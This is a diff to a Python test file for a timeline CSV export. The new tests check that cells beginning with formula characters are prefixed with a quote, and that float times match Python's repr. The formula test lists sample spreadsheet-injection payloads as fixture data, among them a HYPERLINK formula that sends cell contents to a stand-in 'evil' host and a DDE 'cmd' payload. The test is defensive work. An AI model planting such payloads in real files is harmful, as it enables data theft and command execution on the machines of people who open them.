@@ -170,8 +170,8 @@ def test_a_damaged_recording_is_a_clear_error_and_left_as_it_is(tmp_path: Path) 
 
 
 def test_csv_rows_are_what_the_csv_module_writes() -> None:
-    """The export writes each distinct value once through the csv module; every row must
-    be byte for byte what ``csv.writer`` writes for the whole row."""
+    """The export writes each distinct value once through the csv module, column by column;
+    every row must be byte for byte what ``csv.writer`` writes for the whole row."""
     from backends.timeline.export import CSV_COLUMNS, Span, to_csv, when
 
     odd = ["", " ", '"', ",", "a\nb", "a\r\nb", "a\rb", "x,y", 'say "hi"', "ümlaut", "trailing "]
@@ -224,3 +224,45 @@ def test_a_big_recording_is_checked_where_the_range_reads_it_and_says_so(
     out, err = capsys.readouterr()
     assert len(json.loads(out)["entries"]) == 5
     assert "only the pages this range needed were checked" in err
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(
+        tmp_path: Path) -> None:
+    """Untrusted text opened in a spreadsheet: a cell starting with ``=``, ``+``, ``-``,
+    ``@``, a tab or a carriage return is a formula there (``=HYPERLINK(...)`` in an event
+    message). The export writes it with a single quote in front; the same characters
+    anywhere else, and every other text, stay exactly as recorded."""
+    t0 = time.time() - 1800
+    formulas = ['=HYPERLINK("http://evil/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+                "@SUM(1,2)", "\t=1", "\r=1"]
+    harmless = ["a=b", "1-2", "mail@example", " =padded", "3 +1"]
+    original = [entry(t0 + i, "event", f"pod-{i}", object_kind="Pod", change="BackOff",
+                      detail=text, actor=text, before=text)
+                for i, text in enumerate([*formulas, *harmless])]
+    path = write(tmp_path / "drill.timeline", original)
+    out = tmp_path / "timeline.csv"
+    ok(run(str(path), "--format", "csv", "-o", str(out)))
+    text = out.read_bytes().decode()  # as written: a CR inside a value stays a CR
+    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
+    by_name = {row["name"]: row for row in parsed}
+    for i, text in enumerate(formulas):
+        row = by_name[f"pod-{i}"]
+        assert row["detail"] == row["actor"] == row["before"] == "'" + text, row
+    for i, text in enumerate(harmless, start=len(formulas)):
+        row = by_name[f"pod-{i}"]
+        assert row["detail"] == row["actor"] == row["before"] == text, row
+    # No cell of the file starts a formula (the times and numbers included).
+    assert not [cell for row in csv.reader(io.StringIO(text, newline=""))
+                for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+def test_times_in_csv_are_written_exactly_as_python_writes_them() -> None:
+    """The CSV's times come from msgspec's float writer where its digits are ``repr``'s,
+    and from ``repr`` wherever they might not be: never a different text."""
+    from backends.timeline.columns import float_texts
+
+    inside = [1_800_000_000.123456, 1796680575.3496575, 1.0001e-4, 9.99e15, 123.0, 0.1]
+    assert float_texts(inside) == list(map(repr, inside))
+    for odd in (1e-5, 1e16, 0.0, -1.5, float("nan"), float("inf")):
+        values = [*inside, odd]
+        assert float_texts(values) == list(map(repr, values))
